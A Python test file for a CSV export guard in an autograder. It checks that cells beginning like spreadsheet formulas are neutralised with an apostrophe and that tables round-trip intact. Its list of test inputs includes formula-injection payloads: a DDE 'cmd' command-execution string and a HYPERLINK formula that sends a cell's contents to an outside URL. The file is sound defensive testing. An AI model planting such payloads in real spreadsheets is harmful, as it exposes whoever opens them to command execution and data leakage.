"""Cells are only shown by a spreadsheet, and read back as they were."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder.grading.platforms.safe_csv import guarded, number, plain, table, write

DANGEROUS = [
    "=1+1",
    "+49 30 1234",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\rx",
    "\nx",
    "  =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    '=HYPERLINK("http://example.org/"&A1)',
    "=cmd|' /C calc'!A0",
]
texts = st.text() | st.sampled_from(DANGEROUS) | st.sampled_from(DANGEROUS).map(lambda text: "'" + text)


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_would_run_begins_with_an_apostrophe(text):
    assert guarded(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "ada", "O'Brien", "'quoted'", "a=b", "1+1", "    Points Possible", "Zoë", "a@b.org"]
)
def test_what_would_not_is_left_alone(text):
    assert guarded(text) == text


@given(texts)
def test_no_guarded_cell_begins_like_a_formula(text):
    assert guarded(text).lstrip()[:1] not in set("=+-@") | {"\N{FULLWIDTH EQUALS SIGN}"}
    assert not guarded(text).startswith(("\t", "\r", "\n"))


@given(texts)
def test_plain_is_the_inverse(text):
    assert plain(guarded(text)) == text


@given(st.lists(st.lists(texts, min_size=3, max_size=3), max_size=4))
def test_a_table_is_read_back_as_it_was(rows):
    read_back = read(table(["a", "b", "c"], rows))
    assert [[plain(cell) for cell in row] for row in read_back] == [["a", "b", "c"], *rows]


@pytest.mark.parametrize(
    ("value", "said"),
    [(None, ""), (0.0, "0"), (12.5, "12.5"), (1 / 3, "0.3333"), (20, "20"), (1e-7, "0"), (1e6, "1000000")],
)
def test_numbers_are_numbers(value, said):
    assert number(value) == said


def test_a_file_is_utf8(tmp_path):
    write(tmp_path / "table.csv", ["name"], [['Müller; "Ada", Zoë']])
    assert read((tmp_path / "table.csv").read_bytes().decode("utf-8"))[1] == ['Müller; "Ada", Zoë']
